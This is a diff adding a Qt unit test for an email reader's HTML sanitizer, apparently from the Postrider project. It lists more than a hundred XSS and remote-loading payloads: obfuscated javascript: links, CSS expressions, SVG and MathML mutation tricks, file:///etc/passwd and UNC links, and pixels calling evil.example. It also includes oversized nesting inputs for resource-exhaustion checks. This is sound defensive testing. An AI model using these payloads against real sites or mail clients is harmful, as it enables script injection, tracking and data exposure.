@@ -1,0 +1,334 @@
+// SPDX-FileCopyrightText: 2026 The Postrider authors
+// SPDX-License-Identifier: GPL-3.0-or-later
+#include "ui/reader/html/HtmlSanitizer.h"
+#include "HtmlOracle.h"
+
+#include <QElapsedTimer>
+#include <QTest>
+
+using namespace postrider::ui::reader::html;
+
+class HtmlSanitizerTest : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    void torture_data();
+    void torture();
+    void keeps_data();
+    void keeps();
+    void countsRemotePictures();
+    void collectsContentIds();
+    void hidesWhatTheSenderHid_data();
+    void hidesWhatTheSenderHid();
+    void limits_data();
+    void limits();
+    void cutsLongOutput();
+    void darkPageTurnsColours();
+    void zoomsFonts();
+};
+
+namespace {
+
+struct Attack
+{
+    const char *name;
+    const char *html;
+};
+
+// Each must come out harmless and with the word SAFE where it holds one outside of what is dropped.
+const Attack attacks[] = {
+    {"script", "SAFE<script>alert(1)</script>"},
+    {"script upper case", "SAFE<SCRIPT SRC=//evil.example/x.js></SCRIPT>"},
+    {"script in script", "<scr<script>ipt>alert(1)</scr</script>ipt>"},
+    {"script unclosed", "SAFE<script>alert(1)"},
+    {"script with slash", "SAFE<script/x>alert(1)</script>"},
+    {"script after null", "SAFE<scr\\0ipt>alert(1)</scr\\0ipt>"},
+    {"style sheet", "SAFE<style>body{background:url(http://evil.example/)}</style>"},
+    {"style import", "SAFE<style>@import 'http://evil.example/x.css';</style>"},
+    {"style breaks out", "<style><a title=\"</style><img src=x onerror=alert(1)>\"></style>SAFE"},
+    {"link rel", "SAFE<link rel=stylesheet href=http://evil.example/x.css>"},
+    {"link prefetch", "SAFE<link rel=dns-prefetch href=//evil.example>"},
+    {"meta refresh", "SAFE<meta http-equiv=refresh content='0;url=http://evil.example'>"},
+    {"meta dns", "SAFE<meta http-equiv=x-dns-prefetch-control content=on>"},
+    {"base", "<base href=http://evil.example/>SAFE<a href=x>y</a>"},
+    {"iframe", "SAFE<iframe src=http://evil.example></iframe>"},
+    {"iframe srcdoc", "SAFE<iframe srcdoc='<script>alert(1)</script>'></iframe>"},
+    {"frameset", "<frameset><frame src=http://evil.example></frameset>"},
+    {"object", "SAFE<object data=http://evil.example/x.swf></object>"},
+    {"embed", "SAFE<embed src=http://evil.example/x.swf>"},
+    {"applet", "SAFE<applet code=x archive=http://evil.example></applet>"},
+    {"form", "<form action=http://evil.example>SAFE<input name=password><button formaction=http://evil.example>go"
+             "</button></form>"},
+    {"input image", "SAFE<input type=image src=http://evil.example/x.png>"},
+    {"textarea", "SAFE<textarea><script>alert(1)</script></textarea>"},
+    {"select", "SAFE<select><option><script>alert(1)</script></select>"},
+    {"isindex", "SAFE<isindex type=image src=http://evil.example action=javascript:alert(1)>"},
+    {"keygen", "SAFE<keygen autofocus onfocus=alert(1)>"},
+    {"onerror", "SAFE<img src=x onerror=alert(1)>"},
+    {"onload on body", "<body onload=alert(1)>SAFE"},
+    {"onclick", "<p onclick=alert(1)>SAFE</p>"},
+    {"event without space", "SAFE<img/src=x/onerror=alert(1)>"},
+    {"event with newline", "<p\nonmouseover\n=\nalert(1)>SAFE</p>"},
+    {"javascript", "<a href=javascript:alert(1)>SAFE</a>"},
+    {"javascript mixed case", "<a href='JaVaScRiPt:alert(1)'>SAFE</a>"},
+    {"javascript with tab", "<a href='java\tscript:alert(1)'>SAFE</a>"},
+    {"javascript with newline", "<a href='java\nscript:alert(1)'>SAFE</a>"},
+    {"javascript by entity", "<a href='&#106;avascript&colon;alert(1)'>SAFE</a>"},
+    {"javascript by hex entity", "<a href='&#x6A&#x61vascript:alert(1)'>SAFE</a>"},
+    {"javascript after control", "<a href='&#1;javascript:alert(1)'>SAFE</a>"},
+    {"javascript in image", "SAFE<img src=javascript:alert(1)>"},
+    {"vbscript", "<a href=vbscript:msgbox(1)>SAFE</a>"},
+    {"livescript", "<a href=livescript:alert(1)>SAFE</a>"},
+    {"data link", "<a href='data:text/html,<script>alert(1)</script>'>SAFE</a>"},
+    {"data image", "SAFE<img src='data:image/svg+xml;base64,PHN2Zy8+'>"},
+    {"data image html", "SAFE<img src='data:text/html,x'>"},
+    {"file link", "<a href=file:///etc/passwd>SAFE</a>"},
+    {"file image", "SAFE<img src=file:///etc/passwd>"},
+    {"path image", "SAFE<img src=/etc/passwd>"},
+    {"resource image", "SAFE<img src=:/icons/app.png><img src=qrc:/icons/app.png>"},
+    {"unc image", "SAFE<img src='\\\\evil.example\\share\\x.png'>"},
+    {"smb link", "<a href=smb://evil.example/x>SAFE</a>"},
+    {"ms-search link", "<a href=ms-msdt:/id>SAFE</a>"},
+    {"http image", "SAFE<img src=http://evil.example/x.gif width=1 height=1>"},
+    {"protocol relative image", "SAFE<img src=//evil.example/x.gif>"},
+    {"srcset", "SAFE<img srcset='http://evil.example/x.gif 2x'>"},
+    {"lowsrc", "SAFE<img lowsrc=http://evil.example/x.gif dynsrc=http://evil.example/y>"},
+    {"picture", "SAFE<picture><source srcset=http://evil.example/x><img src=cid:a></picture>"},
+    {"background", "<table background=http://evil.example/x.gif><tr><td background=http://evil.example>SAFE</table>"},
+    {"css url", "<p style='background:url(http://evil.example/x)'>SAFE</p>"},
+    {"css url quoted", "<p style=\"background-image:url('http://evil.example/x')\">SAFE</p>"},
+    {"css list url", "<ul style='list-style:url(http://evil.example/x)'><li>SAFE</ul>"},
+    {"css content", "<p style='content:url(http://evil.example/x)'>SAFE</p>"},
+    {"css cursor", "<p style='cursor:url(http://evil.example/x),auto'>SAFE</p>"},
+    {"css expression", "<p style='width:expression(alert(1))'>SAFE</p>"},
+    {"css expression comment", "<p style='width:exp/**/ression(alert(1))'>SAFE</p>"},
+    {"css escape", "<p style='background:\\75rl(http://evil.example/x)'>SAFE</p>"},
+    {"css colour escape", "<p style='color:r\\65 d;color:#fff/**/;'>SAFE</p>"},
+    {"css behaviour", "<p style='behavior:url(x.htc);-moz-binding:url(http://evil.example)'>SAFE</p>"},
+    {"css import", "<p style='@import \"http://evil.example/x\"'>SAFE</p>"},
+    {"css position", "<div style='position:fixed;top:0;left:0;width:100%;z-index:999'>SAFE</div>"},
+    {"css breaks out", "<p style='color:red\"><script>alert(1)</script>'>SAFE</p>"},
+    {"css quote", "<p style='font-family:\"</p><script>alert(1)</script>\"'>SAFE</p>"},
+    {"svg", "SAFE<svg onload=alert(1)><script>alert(1)</script></svg>"},
+    {"svg image", "SAFE<svg><image xlink:href=http://evil.example/x></svg>"},
+    {"svg foreign object", "SAFE<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>"},
+    {"svg style", "<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>SAFE"},
+    {"svg title mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"},
+    {"math", "SAFE<math href=javascript:alert(1)><mtext>x</mtext></math>"},
+    {"math mutation", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
+                      "onerror=alert(1)&gt;\">"},
+    {"math annotation", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>"},
+    {"form mutation", "<form><div></form><form><script>alert(1)</script>"},
+    {"noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>SAFE"},
+    {"noembed", "<noembed><img src=x onerror=alert(1)></noembed>SAFE"},
+    {"xmp", "SAFE<xmp><script>alert(1)</script></xmp>"},
+    {"plaintext", "SAFE<plaintext><script>alert(1)</script>"},
+    {"template", "SAFE<template><script>alert(1)</script></template>"},
+    {"title", "<title><script>alert(1)</script></title>SAFE"},
+    {"comment", "SAFE<!-- <script>alert(1)</script> -->"},
+    {"comment breaks out", "SAFE<!--><script>alert(1)</script>-->"},
+    {"comment bang", "SAFE<!--x--!><img src=x onerror=alert(1)>"},
+    {"conditional comment", "SAFE<!--[if mso]><script>alert(1)</script><![endif]-->"},
+    {"cdata", "SAFE<![CDATA[<script>alert(1)</script>]]>"},
+    {"processing instruction", "SAFE<?xml-stylesheet href='http://evil.example'?>"},
+    {"doctype", "<!DOCTYPE html SYSTEM 'http://evil.example/x.dtd' [<!ENTITY x 'y'>]>SAFE&x;"},
+    {"audio video", "SAFE<audio src=//evil.example><video poster=//evil.example><track src=//evil.example></video>"},
+    {"canvas", "SAFE<canvas></canvas>"},
+    {"marquee", "<marquee onstart=alert(1)>SAFE</marquee>"},
+    {"unknown element", "<o:p onclick=alert(1)>SAFE</o:p><x-y style='x'>z</x-y>"},
+    {"image map", "SAFE<map name=x><area href=javascript:alert(1)></map>"},
+    {"dialog", "<dialog open><p>SAFE</p></dialog>"},
+    {"quote in attribute", "<a href='http://ok.example/\"onmouseover=alert(1) x=\"'>SAFE</a>"},
+    {"backtick attribute", "<img src=`javascript:alert(1)`>SAFE"},
+    {"angle in alt", "<img src=cid:a alt='\"><script>alert(1)</script>'>SAFE"},
+    {"cid breaks out", "<img src='cid:a\"onerror=alert(1)'>SAFE"},
+    {"utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-SAFE"},
+    {"overlong", "SAFE\xc0\xbcscript\xc0\xbe alert(1)"},
+    {"link with user", "<a href='https://user@evil.example/'>SAFE</a>"},
+    {"link with backslash", "<a href='https:\\\\evil.example'>SAFE</a>"},
+    {"link without host", "<a href='http:///x'>SAFE</a><a href='https:'>y</a>"},
+    {"relative link", "<a href='/settings'>SAFE</a><a href='#x'>y</a>"},
+    {"ping", "<a href='https://ok.example' ping='http://evil.example' target=_blank>SAFE</a>"},
+    {"contenteditable", "<p contenteditable autofocus onfocus=alert(1) id=x name=y class=z>SAFE</p>"},
+    {"unclosed attribute", "SAFE<img src=\"cid:a onerror=alert(1)"},
+    {"unclosed tag", "SAFE<a href='https://ok.example'"},
+    {"nested links", "<a href=https://a.example>x<a href=javascript:alert(1)>SAFE</a></a>"},
+    {"table mutation", "<table><script>alert(1)</script><tr><style></style><td>SAFE<form><input></table>"},
+    {"select mutation", "<select><iframe></select><img src=x onerror=alert(1)>SAFE"},
+};
+
+} // namespace
+
+void HtmlSanitizerTest::torture_data()
+{
+    QTest::addColumn<QByteArray>("html");
+    for (const Attack &attack : attacks)
+        QTest::newRow(attack.name) << QByteArray(attack.html);
+}
+
+void HtmlSanitizerTest::torture()
+{
+    QFETCH(QByteArray, html);
+    const SanitizedHtml result = HtmlSanitizer::sanitize(QString::fromUtf8(html));
+    QCOMPARE(firstForbidden(result.html), QString());
+    QVERIFY(!result.html.contains(QLatin1String("<script"), Qt::CaseInsensitive));
+    if (html.contains("SAFE"))
+        QVERIFY2(result.html.contains(QLatin1String("SAFE")), qPrintable(result.html));
+    const SanitizedHtml again = HtmlSanitizer::sanitize(result.html);
+    QCOMPARE(again.remotePictures, 0);
+    QCOMPARE(firstForbidden(again.html), QString());
+}
+
+void HtmlSanitizerTest::keeps_data()
+{
+    QTest::addColumn<QString>("html");
+    QTest::addColumn<QString>("expected");
+    const auto row = [](const char *name, const char *html, const char *expected) {
+        QTest::newRow(name) << QString::fromUtf8(html) << QString::fromUtf8(expected);
+    };
+    row("text", "a &lt; b &amp; c", "a &lt; b &amp; c");
+    row("bold", "<strong>x</strong>", "<b>x</b>");
+    row("link", "<a href=\"https://example.org/a?b=c&amp;d=e\">x</a>",
+        "<a href=\"https://example.org/a?b=c&amp;d=e\">x</a>");
+    row("protocol-relative link", "<a href='//example.org/'>x</a>", "<a href=\"https://example.org/\">x</a>");
+    row("mailto", "<a href='mailto:a@example.org?subject=x'>x</a>", "<a href=\"mailto:a@example.org?subject=x\">x</a>");
+    row("colour", "<span style='COLOR: Red'>x</span>", "<span style=\"color:#ff0000;\">x</span>");
+    row("rgb", "<span style='color:rgb(1, 2, 3)'>x</span>", "<span style=\"color:#010203;\">x</span>");
+    row("bgcolor", "<table bgcolor=eeeeee><tr><td>x</table>",
+        "<table border=\"0\" cellspacing=\"0\" cellpadding=\"0\"><tbody><tr><td>x</td></tr></tbody></table>");
+    row("font", "<font color=#00ff00 size=5 face=x>x</font>", "<span style=\"color:#00ff00;font-size:24px;\">x</span>");
+    row("inline picture", "<img src='cid:logo@x' alt=Logo width=100>",
+        "<img src=\"cid:logo%40x\" alt=\"Logo\" width=\"100\">");
+    row("blocked picture", "<img src=https://example.org/x.png alt='A cat'>", "<span>[A cat]</span>");
+    row("chinese", "<p>你好，世界</p>", "<p>你好，世界</p>");
+    row("emoji", "<p>\U0001F600</p>", "<p>\U0001F600</p>");
+    row("rtl", "<div dir=rtl>שלום</div>", "<div dir=\"rtl\">שלום</div>");
+    row("article", "<article><header>x</header></article>", "<div><div>x</div></div>");
+    row("quote loses its style", "<blockquote style='margin:0;color:red' type=cite>x</blockquote>",
+        "<blockquote>x</blockquote>");
+    row("bidi override", "a\u202eb", "ab");
+    row("list", "<ol start=3><li>x</ol>", "<ol start=\"3\"><li>x</li></ol>");
+    row("spans are bounded", "<table><tr><td colspan=99999999 rowspan=-1>x</table>",
+        "<table border=\"0\" cellspacing=\"0\" cellpadding=\"0\"><tbody><tr><td colspan=\"60\">x</td></tr></tbody>"
+        "</table>");
+}
+
+void HtmlSanitizerTest::keeps()
+{
+    QFETCH(QString, html);
+    QFETCH(QString, expected);
+    QCOMPARE(HtmlSanitizer::sanitize(html).html, expected);
+    QCOMPARE(firstForbidden(expected), QString());
+}
+
+void HtmlSanitizerTest::countsRemotePictures()
+{
+    const SanitizedHtml result = HtmlSanitizer::sanitize(QStringLiteral(
+        "<img src=https://a.example/1.png><img src='http://b.example/t.gif' width=1 height=1>"
+        "<table background='https://a.example/2.png'><tr><td style='background:url(https://c.example/3.png)'>x</table>"
+        "<img src='cid:x'><img src='data:image/png;base64,AAAA'><img src='https://a.example/4' "
+        "style='display:none'>"));
+    QCOMPARE(result.remotePictures, 5);
+    QCOMPARE(result.trackers, 2);
+    QCOMPARE(result.remoteHosts, QStringList({QStringLiteral("a.example"), QStringLiteral("b.example")}));
+}
+
+void HtmlSanitizerTest::collectsContentIds()
+{
+    const SanitizedHtml result = HtmlSanitizer::sanitize(
+        QStringLiteral("<img src='cid:a@b'><img src='CID:%3Cc%20d%3E'><img src='cid:a@b'><img src='cid:'>"));
+    QCOMPARE(result.contentIds, QStringList({QStringLiteral("a@b"), QStringLiteral("c d")}));
+}
+
+void HtmlSanitizerTest::hidesWhatTheSenderHid_data()
+{
+    QTest::addColumn<QString>("html");
+    QTest::newRow("display") << QStringLiteral("<div style='display: none !important'>secret</div>");
+    QTest::newRow("visibility") << QStringLiteral("<span style='visibility:hidden'>secret</span>");
+    QTest::newRow("office") << QStringLiteral("<p style='mso-hide:all'>secret</p>");
+    QTest::newRow("height") << QStringLiteral("<div style='max-height:0;overflow:hidden'>secret</div>");
+    QTest::newRow("attribute") << QStringLiteral("<div hidden>secret</div>");
+    QTest::newRow("inner") << QStringLiteral("<div style='display:none'><p style='display:block'>secret</p></div>");
+}
+
+void HtmlSanitizerTest::hidesWhatTheSenderHid()
+{
+    QFETCH(QString, html);
+    const QString result = HtmlSanitizer::sanitize(html + QStringLiteral("shown")).html;
+    QVERIFY(!result.contains(QLatin1String("secret")));
+    QVERIFY(result.contains(QLatin1String("shown")));
+}
+
+void HtmlSanitizerTest::limits_data()
+{
+    QTest::addColumn<QString>("html");
+    const auto repeat = [](const char *text, int times) { return QString::fromLatin1(text).repeated(times); };
+    QTest::newRow("10,000 nested tables") << repeat("<table><tr><td>", 10000) + QStringLiteral("deep");
+    QTest::newRow("100,000 nested divisions") << repeat("<div>", 100000) + QStringLiteral("deep");
+    QTest::newRow("100,000 nested bold") << repeat("<b>", 100000) + QStringLiteral("deep");
+    QTest::newRow("1,000,000 nested spans") << repeat("<span>", 1000000) + QStringLiteral("deep");
+    QTest::newRow("misnested formatting") << repeat("<b><i><a><p>", 30000) + QStringLiteral("deep");
+    QTest::newRow("adoption agency") << repeat("<a><div>x</a>", 20000);
+    QTest::newRow("many formatting elements") << [] {
+        QString html;
+        for (int i = 0; i < 5000; ++i)
+            html += QStringLiteral("<font size=%1>").arg(i);
+        return html + QStringLiteral("<p>x</p>").repeated(5000);
+    }();
+    QTest::newRow("500,000 attributes on one element") << QStringLiteral("<p ") + [] {
+        QString html;
+        for (int i = 0; i < 500000; ++i)
+            html += QStringLiteral("a%1=b ").arg(i);
+        return html;
+    }() + QStringLiteral(">x");
+    QTest::newRow("50 MB of text") << repeat("0123456789", 5000000);
+    QTest::newRow("8 MB of opening brackets") << repeat("<", 8000000);
+    QTest::newRow("1,000,000 entities") << repeat("&amp", 1000000);
+    QTest::newRow("200,000 table cells") << QStringLiteral("<table>") + repeat("<tr><td>x<td>y", 100000);
+    QTest::newRow("unclosed comment") << QStringLiteral("<!--") + repeat("-", 5000000);
+}
+
+void HtmlSanitizerTest::limits()
+{
+    QFETCH(QString, html);
+    QElapsedTimer timer;
+    timer.start();
+    const SanitizedHtml result = HtmlSanitizer::sanitize(html);
+    qInfo() << timer.elapsed() << "ms," << result.html.size() << "units, too complex:" << result.tooComplex;
+    QCOMPARE_LT(timer.elapsed(), 6000); // budget 1.5 s of parsing; the rest is for slow builds
+    QVERIFY(result.html.size() <= SanitizeOptions().longestOutput + 30000);
+    QCOMPARE(firstForbidden(result.html), QString());
+    if (html.contains(QLatin1String("deep")) && !result.tooComplex && !result.cut)
+        QVERIFY(result.html.contains(QLatin1String("deep")));
+}
+
+void HtmlSanitizerTest::cutsLongOutput()
+{
+    SanitizeOptions options;
+    options.longestOutput = 1000;
+    const SanitizedHtml result = HtmlSanitizer::sanitize(QStringLiteral("<p>word</p>").repeated(1000), options);
+    QVERIFY(result.cut);
+    QVERIFY(result.html.size() < 1100);
+    QVERIFY(!HtmlSanitizer::sanitize(QStringLiteral("<p>word</p>")).cut);
+}
+
+void HtmlSanitizerTest::darkPageTurnsColours()
+{
+    SanitizeOptions options;
+    options.darkPage = {qRgb(0x1e, 0x1f, 0x22), qRgb(0xe6, 0xe6, 0xe6)};
+    const SanitizedHtml result =
+        HtmlSanitizer::sanitize(QStringLiteral("<p style='color:#000;background-color:#fff'>x</p>"), options);
+    QCOMPARE(result.html, QStringLiteral("<p style=\"color:#e6e6e6;background-color:#1f1f1f;\">x</p>"));
+}
+
+void HtmlSanitizerTest::zoomsFonts()
+{
+    SanitizeOptions options;
+    options.zoom = 1.5;
+    QCOMPARE(HtmlSanitizer::sanitize(QStringLiteral("<p style='font-size:12pt'>x</p>"), options).html,
+             QStringLiteral("<p style=\"font-size:24px;\">x</p>"));
+}
+
+QTEST_GUILESS_MAIN(HtmlSanitizerTest)
+#include "HtmlSanitizerTest.moc"
